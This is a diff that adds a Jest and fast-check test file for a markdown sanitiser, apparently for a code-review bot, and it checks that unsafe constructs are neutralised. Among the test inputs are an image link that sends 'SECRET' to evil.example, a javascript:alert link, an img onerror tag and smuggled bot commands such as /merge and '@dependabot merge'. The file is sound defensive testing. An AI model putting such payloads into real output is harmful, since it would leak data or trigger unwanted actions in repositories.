@@ -1,0 +1,223 @@
+import { describe, expect, test } from "@jest/globals";
+import fc from "fast-check";
+import { codeBlock, inlineCode } from "../../src/delivery/code.ts";
+import { safeLine, safeMarkdown, shorten, tableCell, visible } from "../../src/delivery/markdown.ts";
+
+const links = new Set(["https://docs.example/guide", "https://github.com/o/r/issues/7"]);
+const check = (input: string, expected: string): void => {
+  expect(safeMarkdown(input, { links })).toBe(expected);
+  expect(safeMarkdown(expected, { links })).toBe(expected);
+};
+
+describe("safeMarkdown", () => {
+  const rows: [string, string, string][] = [
+    [
+      "plain text",
+      "Reads *both*, `a` and **b**:\n\n1. one\n- two",
+      "Reads *both*, `a` and **b**:\n\n1. one\n- two",
+    ],
+    ["an image", "![x](https://evil.example/?d=SECRET)", "\\!x (link removed)"],
+    [
+      "an image by reference",
+      "![x][y]\n\n[y]: https://evil.example",
+      "\\!\\[x\\]\\[y\\]\n\n\\[y\\]: (link removed)",
+    ],
+    [
+      "an image of an allowed address",
+      "![x](https://docs.example/guide)",
+      "\\![x](https://docs.example/guide)",
+    ],
+    ["HTML", '<img src=x onerror="a">', '&lt;img src=x onerror="a">'],
+    ["a comment that looks like our marker", "<!-- coderag:v1 {} -->", "&lt;!-- coderag:v1 {} -->"],
+    ["an entity", "&#64;octocat &lt;", "&amp;`#64`;octocat &lt;"],
+    [
+      "an allowed link",
+      "see [the guide](https://docs.example/guide).",
+      "see [the guide](https://docs.example/guide).",
+    ],
+    ["an allowed address", "see https://docs.example/guide.", "see https://docs.example/guide."],
+    [
+      "another link",
+      "[x](https://evil.example/a) and [y](javascript:alert(1))",
+      "x (link removed) and \\[y\\](javascript:alert(1))",
+    ],
+    ["another address", "www.evil.example/x?q=1, ftp://a.b", "(link removed), (link removed)"],
+    ["an address behind a digit", "1https://evil.example", "1(link removed)"],
+    ["an address with a needless backslash", "https:/\\/evil.example", "(link removed)"],
+    ["an autolink", "<https://evil.example>", "&lt;(link removed)>"],
+    ["an issue's address, even if allowed", "fixes https://github.com/o/r/issues/7", "fixes (link removed)"],
+    ["mentions", "@octocat, @org/team (@a@b) *@c* \\@d", "`@octocat`, `@org/team` (`@a@b`) *`@c`* `@d`"],
+    ["an e-mail address", "mail a.b@c.example now", "mail a.b@c.example now"],
+    ["half an e-mail address", "a@b", "a`@b`"],
+    ["closing words", "Fixes #1, closes org/repo#2, GH-3", "Fixes `#1`, closes `org/repo#2`, `GH-3`"],
+    ["an escaped reference", "fixes \\#1", "fixes `#1`"],
+    [
+      "commands",
+      "/merge\n - /coderag implement\nuse /etc/hosts and/or 1/2",
+      "`/merge`\n - `/coderag` implement\nuse /etc/hosts and/or 1/2",
+    ],
+    ["other bots' commands", "bors r+\n@dependabot merge", "`bors` r+\n`@dependabot` merge"],
+    ["trailers", "Co-authored-by: Eve <e@v.example>", "`Co-authored-by`: Eve &lt;e@v.example>"],
+    ["a skip mark", "[skip ci]", "\\[skip ci\\]"],
+    ["a table", "a|b\n-|-\n1|2", "a\\|b\n-\\|-\n1\\|2"],
+    [
+      "headings",
+      "# One\n\n## `two` ##\n\nThree\n---\nFour\n===",
+      "**One**\n\n**`two`**\n\nThree\n\\---\nFour\n\\===",
+    ],
+    ["maths", "$x$", "\\$x\\$"],
+    ["an open code span", "a `b @c", "a \\`b `@c`"],
+    ["a code span with a backslash", "`a\\`@c`", "`a\\` `@c`\\`"],
+    ["a code span over two lines", "`a\n@c`", "\\`a\n`@c`\\`"],
+    ["code spans that would touch", "`a`@b", "`a` `@b`"],
+    ["code", "```ts\nconst a = '@b'; // <b>\n```", "```ts\nconst a = '@b'; // <b>\n```"],
+    ["an open fence", "```\nx", "```\nx\n```"],
+    ["a fence within a fence", "~~~~\n```\nx\n```\n~~~~", "````\n```\nx\n```\n````"],
+    ["a fence in a list", "- a\n  ```\n  x\n@b\n  ```", "- a\n```\n  x\n@b\n```"],
+    ["a live diagram", "```mermaid\ngraph\n```", "```\ngraph\n```"],
+    ["a command in code", "```\n/merge\n/usr/bin\n```", "```\n /merge\n/usr/bin\n```"],
+    ["what nobody sees", "a\u0000b\u200bc\u202ed\u{e0041}e\ud800", "abcde\ufffd"],
+    ["an emoji with joiners", "👩‍💻 ❤️", "👩‍💻 ❤️"],
+    ["many blank lines", "a\n\n\n\n\nb\n\n", "a\n\nb"],
+    ["line ends", "a\r\nb\rc", "a\nb\nc"],
+  ];
+  test.each(rows)("%s", (_, input, expected) => check(input, expected));
+
+  const nasty = fc.constantFrom(
+    ...[
+      "`",
+      "``",
+      "```",
+      "~~~",
+      "\\",
+      "@user",
+      "@",
+      "#12",
+      "[",
+      "]",
+      "(",
+      ")",
+      "!",
+      "<",
+      ">",
+      "&",
+      "&lt;",
+      "|",
+      "\n",
+      "\n\n",
+    ],
+    ...[
+      " ",
+      "a",
+      "1",
+      "é",
+      "_",
+      "*",
+      "$",
+      "https://evil.example/x",
+      "https://docs.example/guide",
+      "/merge",
+      "org/repo#1",
+    ],
+    ...[
+      "www.",
+      ".",
+      "-",
+      "=",
+      "# ",
+      "> ",
+      "- ",
+      "<!--",
+      "-->",
+      "\u200b",
+      "\ud800",
+      "GH-1",
+      "x@y.zz",
+      "bors",
+      "mermaid",
+      ":",
+    ],
+  );
+  const text = fc.array(nasty, { maxLength: 40 }).map((parts) => parts.join(""));
+
+  test("cleaning twice is cleaning once", () => {
+    fc.assert(
+      fc.property(fc.oneof(text, fc.string({ unit: "binary" })), (input) => {
+        const once = safeMarkdown(input, { links });
+        expect(safeMarkdown(once, { links })).toBe(once);
+      }),
+      { numRuns: 5_000 },
+    );
+  });
+
+  test("nothing that acts survives outside code", () => {
+    fc.assert(
+      fc.property(text, (input) => {
+        const outside = withoutCode(safeMarkdown(input, { links })).replace(
+          /[\w.+-]+@[\w-]+(?:\.[\w-]+)+/g,
+          "",
+        );
+        expect(outside).not.toMatch(/<|(?:^|[^A-Za-z0-9.])@[A-Za-z0-9]|#\d|\bGH-\d|evil|(?<!\\)!\[|&#|~~~/);
+        expect(outside).not.toMatch(/^[\s>*+-]*\/[a-z]+(?![\w/.-])/m);
+      }),
+      { numRuns: 5_000 },
+    );
+  });
+
+  const repeated = [
+    "`",
+    "\\",
+    "[",
+    "](",
+    "@a",
+    "a.",
+    "a/",
+    "~",
+    "&",
+    "http://",
+    "!",
+    "#",
+    " ",
+    "``x",
+    "\n",
+    "```\n",
+  ];
+  test.each(repeated)("a long run of %j ends", (part) => {
+    const long = part.repeat(100_000 / part.length);
+    expect(typeof safeMarkdown(long)).toBe("string");
+  });
+});
+
+/** What GitHub would read as text: without fenced blocks at column 0 and without code spans, by CommonMark's rules. */
+function withoutCode(markdown: string): string {
+  const blocks = markdown.replace(/^(`{3,})[^`\n]*\n(?:[\s\S]*?\n)??\1$/gm, "");
+  return blocks.replace(/\\[\\`*_{}[\]<>~|!$]|(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, (all) =>
+    all.startsWith("\\") ? all : " ",
+  );
+}
+
+describe("pieces", () => {
+  test.each([
+    ["a", "`a`"],
+    ["", "` `"],
+    ["a`b", "``a`b``"],
+    ["`a`", "`` `a` ``"],
+    ["a\nb", "`a b`"],
+  ])("inline code of %j", (input, expected) => expect(inlineCode(input)).toBe(expected));
+
+  test.each([
+    ["a\n", "ts", "```ts\na\n```"],
+    ["```suggestion", "suggestion", "````\n```suggestion\n````"],
+    ["a", "x y", "```\na\n```"],
+  ])("code block of %j", (input, info, expected) => expect(codeBlock(input, info)).toBe(expected));
+
+  test.each([
+    ["a\n# b", 20, "a `#` b".replace("`#`", "#")],
+    ["abcdef", 4, "abc…"],
+    ["@all of you", 5, "`@all`…".replace("`…", "`…")],
+  ])("line of %j", (input, limit, expected) => expect(safeLine(input, limit)).toBe(expected));
+
+  test("shortens without halving a character", () => expect(shorten("ab😀😀", 4)).toBe("ab…"));
+  test("keeps a table's cells apart", () => expect(tableCell("a `b|c` \\| d\ne")).toBe("a `b\\|c` \\| d e"));
+  test("shows only what can be seen", () => expect(visible("a\u{e0061}\u3164b")).toBe("ab"));
+});
